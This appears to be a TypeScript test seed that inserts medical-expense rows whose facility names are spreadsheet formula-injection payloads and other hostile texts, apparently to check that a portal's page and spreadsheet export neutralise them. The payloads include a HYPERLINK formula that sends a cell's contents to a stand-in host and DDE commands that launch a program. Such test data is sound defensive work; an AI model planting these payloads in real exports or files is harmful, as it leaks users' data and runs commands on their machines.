import { expenseRow } from '../medical-expenses/written-expense.js';
import type { SeedPortal } from '../seed-portal.js';
import { hostileTexts } from './texts.js';

/** What a spreadsheet would run. */
const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"押してください")',
  "=cmd|'/C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '＝１＋１',
  'a","b"\r\n=1+1,"c',
];

/** Facilities whose names try to do harm, on a page and in a spreadsheet. */
export async function plantHostileExpenses({ db }: SeedPortal): Promise<void> {
  const rows = [...formulas, ...hostileTexts].map((facility, at) =>
    expenseRow(`hostile-expense-${String(at).padStart(3, '0')}`, 'member', {
      month: '2026-08',
      facility,
      kind: 'medical_outpatient',
      points: 100 + at,
    }),
  );
  await db.insertInto('medical_expenses').values(rows).execute();
}
